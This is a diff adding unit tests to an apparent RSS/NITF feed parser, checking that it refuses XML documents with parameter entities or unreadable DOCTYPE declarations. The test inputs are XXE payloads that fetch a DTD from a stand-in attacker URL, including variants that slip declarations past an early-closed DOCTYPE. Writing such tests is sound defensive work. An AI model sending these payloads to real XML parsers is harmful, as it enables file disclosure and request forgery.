@@ -86,6 +86,26 @@ void describe('external entities are not read', () => {
   });
 });
 
+void describe('parameter entities and document type declarations that cannot be read', () => {
+  const ATTACKER = 'http://127.0.0.1:9/evil.dtd';
+  const FEED = '<rss version="2.0"><channel><title>t</title><item><title>Leak &send;</title><guid>g1</guid></item></channel></rss>';
+  const documents: Record<string, string> = {
+    'a parameter entity fetching a DTD': `<?xml version="1.0"?>\n<!DOCTYPE rss [\n <!ENTITY % pe SYSTEM "${ATTACKER}">\n %pe;\n]>\n${FEED}`,
+    'a parameter entity declaring another entity': `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % pe "<!ENTITY send 'x'>"> %pe;]>${FEED}`,
+    'declarations after a declaration closed early': `<?xml version="1.0"?>\n<!DOCTYPE rss [<!ELEMENT rss ANY>]>\n <!ENTITY % pe SYSTEM "${ATTACKER}">\n${FEED}`,
+    'a "]>" inside an entity value': `<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY % a "]>">\n <!ENTITY % pe SYSTEM "${ATTACKER}">\n]>\n${FEED}`,
+    'a NITF wire with a parameter entity': `<?xml version="1.0"?><!DOCTYPE nitf [<!ENTITY % pe SYSTEM "${ATTACKER}"> %pe;]><nitf><head/><body/></nitf>`,
+  };
+  for (const [name, document] of Object.entries(documents)) {
+    void test(`${name} is refused, saying why`, () => {
+      const result = parseOrError(document);
+      assert.ok(result instanceof FeedError, 'refused');
+      assert.match(result.message, /is not a valid feed: a document type declaration with parameter entities, or one that cannot be read, is refused/);
+      assert.doesNotMatch(result.message, /neither XML nor|Invalid entity name/);
+    });
+  }
+});
+
 void describe('documents nested beyond reason', () => {
   void test('a NITF body nested thousands of levels deep is refused with a reason, not a stack overflow', () => {
     const depth = 5_000;
